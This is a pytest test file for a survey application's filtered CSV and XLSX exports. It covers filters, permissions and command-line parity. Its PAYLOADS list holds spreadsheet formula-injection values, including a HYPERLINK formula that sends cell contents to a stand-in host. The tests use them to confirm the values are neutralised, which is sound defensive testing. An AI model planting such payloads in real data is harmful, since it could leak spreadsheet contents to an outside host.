"""Exports of the filtered view: CSV and XLSX from the page and the command line hold exactly the
filtered responses, with formula-like text neutralised and never a formula cell."""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, datetime

import pytest
from sqlalchemy import select

from survey.extensions import db
from survey.models import Answer, Response, ResponseTag
from tests.factories import add_answers, make_survey, make_user
from tests.pages import log_in

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def story(survey):
    """Leeds in October, York in September; free text and a theme on some."""
    ids = add_answers(survey, [(date(2026, 10, 5), "Leeds", 5)] * 3 + [(date(2026, 9, 5), "York", 2)] * 2)
    for response_id, text in zip(ids, [*PAYLOADS[:3], "The 50%_off code failed", PAYLOADS[3]], strict=True):
        db.session.add(Answer(response_id=response_id, question_key="comment", value_text=text))
    db.session.add(ResponseTag(response_id=ids[0], tag="billing", created_at=datetime(2026, 10, 6)))
    db.session.commit()
    return ids


@pytest.fixture
def slug(app):
    with app.app_context():
        survey = make_survey()
        story(survey)
        make_user(email="analyst@example.com", role="analyst")
        make_user(email="agent@example.com", role="agent")
        return survey.slug


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_cells(data: bytes) -> tuple[list[list[str]], str]:
    """The first sheet's cell texts (inline or shared strings, numbers as text) and its raw XML."""
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
        shared = ["".join(t.text or "" for t in item.iter(f"{{{ns['x']}}}t"))
                  for item in ET.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", ns)] \
            if "xl/sharedStrings.xml" in names else []
    rows = []
    for row in ET.fromstring(sheet).iter(f"{{{ns['x']}}}row"):
        cells = []
        for cell in row.findall("x:c", ns):
            kind, value = cell.get("t"), cell.find("x:v", ns)
            if kind == "inlineStr":
                cells.append("".join(t.text or "" for t in cell.iter(f"{{{ns['x']}}}t")))
            elif kind == "s":
                cells.append(shared[int(value.text)])
            else:
                cells.append(value.text if value is not None else "")
        rows.append(cells)
    return rows, sheet


@pytest.mark.parametrize("query, expected", [
    ("", 5), ("?where=location=Leeds", 3), ("?from=2026-10-01", 3), ("?to=2026-09-30", 2),
    ("?q=50%25_off", 1), ("?q=50__off", 0), ("?tag=Billing", 1), ("?version=1", 5), ("?version=2", 0),
])
def test_csv_holds_exactly_the_filtered_responses(client, slug, query, expected):
    log_in(client, "analyst@example.com")
    response = client.get(f"/manage/surveys/{slug}/responses.csv{query}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'attachment; filename="support-csat-responses.csv"' == response.headers["Content-Disposition"]
    assert len(csv_rows(response.get_data(as_text=True))) == expected


def test_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(client, slug):
    log_in(client, "analyst@example.com")
    rows = csv_rows(client.get(f"/manage/surveys/{slug}/responses.csv").get_data(as_text=True))
    comments = sorted(row["comment"] for row in rows)
    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in comments)
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in comments and "'@SUM(A1)" in comments
    assert [row["tags"] for row in rows].count("billing") == 1

    workbook = client.get(f"/manage/surveys/{slug}/responses.xlsx")
    assert workbook.status_code == 200 and workbook.mimetype.endswith("spreadsheetml.sheet")
    cells, sheet = xlsx_cells(workbook.get_data())
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    header = cells[0]
    assert header == list(rows[0].keys())  # the same columns as the CSV
    column = header.index("comment")
    assert sorted(row[column] for row in cells[1:]) == comments


def test_bad_filters_export_nothing_and_say_why(client, slug):
    log_in(client, "analyst@example.com")
    response = client.get(f"/manage/surveys/{slug}/responses.csv?from=last-week")
    assert response.status_code == 400 and "from: 'last-week' is not a date" in response.get_data(as_text=True)
    assert client.get("/manage/surveys/nope/responses.xlsx").status_code == 404


def test_agents_and_strangers_cannot_export(client, slug):
    assert client.get(f"/manage/surveys/{slug}/responses.csv").status_code == 302
    log_in(client, "agent@example.com")
    assert client.get(f"/manage/surveys/{slug}/responses.csv").status_code == 403
    assert client.get(f"/manage/surveys/{slug}/responses.xlsx").status_code == 403


def test_command_line_filters_match_the_page(client, slug, runner, tmp_path):
    log_in(client, "analyst@example.com")
    page = client.get(f"/manage/surveys/{slug}/responses.csv?where=location=Leeds&from=2026-10-01").get_data(
        as_text=True)
    result = runner.invoke(args=["export-responses", slug, "--where", "location=Leeds", "--from", "2026-10-01"])
    assert result.exit_code == 0 and result.output == page

    bad = runner.invoke(args=["export-responses", slug, "--where", "bogus"])
    assert bad.exit_code == 1 and "--where" in bad.output
    assert runner.invoke(args=["export-responses", slug, "--format", "xlsx"]).exit_code == 2

    target = tmp_path / "leeds.xlsx"
    done = runner.invoke(args=["export-responses", slug, "--format", "xlsx", "--output", str(target),
                               "--where", "location=Leeds"])
    assert done.exit_code == 0
    cells, _ = xlsx_cells(target.read_bytes())
    assert len(cells) == 4  # header and the three Leeds responses


def test_unfiltered_export_is_unchanged_apart_from_the_tags_column(ctx, runner):
    survey = make_survey()
    story(survey)
    result = runner.invoke(args=["export-responses", survey.slug])
    header = result.output.splitlines()[0].split(",")
    assert header[:6] == ["response_id", "submitted_at", "updated_at", "version", "email", "source"]
    assert header[-3:] == ["quote_consent", "contact_consent", "tags"]
    assert len(csv_rows(result.output)) == db.session.scalar(select(db.func.count(Response.id)))
